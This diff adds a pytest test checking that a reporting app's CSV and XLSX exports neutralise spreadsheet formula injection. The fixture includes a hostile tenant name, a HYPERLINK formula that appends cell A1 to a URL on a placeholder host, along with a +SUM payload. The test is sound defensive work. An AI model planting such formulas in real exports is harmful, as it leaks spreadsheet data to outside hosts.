@@ -511,3 +511,51 @@ def test_a_questionnaire_mean_over_fewer_than_5_pairs_is_hidden_and_its_n_suppre
         ("b", HIDDEN, None, None),
         (None, 12, 11.0, 40.0),  # (3 x 20 + 9 x 8) / 12
     ]
+
+
+def test_a_name_that_looks_like_a_formula_is_never_one_in_csv_or_xlsx():
+    """A municipality named ``=HYPERLINK(...)`` and a programme ``+SUM(...)``: the CSV writes
+    them with a ``'`` before (OWASP), the XLSX as string cells, never formulas; numbers (and a
+    negative one) stay numbers."""
+    import datetime as dt
+    import zipfile
+
+    from core.reports.exports import csv_bytes, csv_text, xlsx_bytes
+    from core.reports.overview import Figures
+    from core.reports.partner import PartnerAggregate, _Granted, suppressed_rows
+    from core.reports.partner_api import partner_tables
+    from core.reports.period import Period
+
+    evil = '=HYPERLINK("https://example.invalid/?x="&A1,"Klik")'
+    granted = _Granted(
+        Tenant(slug="evil", name=evil, kind=TenantKind.MUNICIPALITY),
+        Programme(slug="sum", name="+SUM(1,2)"),
+    )
+    rows, total = suppressed_rows([(granted, Figures(citizens_in_forloeb=7, matches=6))])
+    period = Period(START, END)
+    tables = partner_tables(PartnerAggregate(period, rows, total, [], []))
+    text = csv_bytes(tables["partner"], period, "@Partnerskaber").decode("utf-8-sig")
+    lines = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert lines[1][1] == f"'{evil}: +SUM(1,2)"
+    assert lines[3][1] == "7"  # citizens in forløb: a number, as before
+    assert [csv_text(t) for t in ("=1", "+1", "-1", "@a", "\tb", "\rc", "a=b", "<5", "x")] == [
+        "'=1",
+        "'+1",
+        "'-1",
+        "'@a",
+        "'\tb",
+        "'\rc",
+        "a=b",
+        "<5",
+        "x",
+    ]
+    body = xlsx_bytes(list(tables.values()), period, "=Partnerskaber", dt.datetime(2026, 7, 1))
+    sheet = load_workbook(io.BytesIO(body))[tables["partner"].sheet or "partner"]
+    header = sheet[2][1]
+    assert (header.value, header.data_type) == (f"{evil}: +SUM(1,2)", "s")
+    assert (sheet["B4"].value, sheet["B4"].data_type) == (7, "n")
+    with zipfile.ZipFile(io.BytesIO(body)) as archive:
+        xml = "".join(
+            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets")
+        )
+    assert "<f>" not in xml
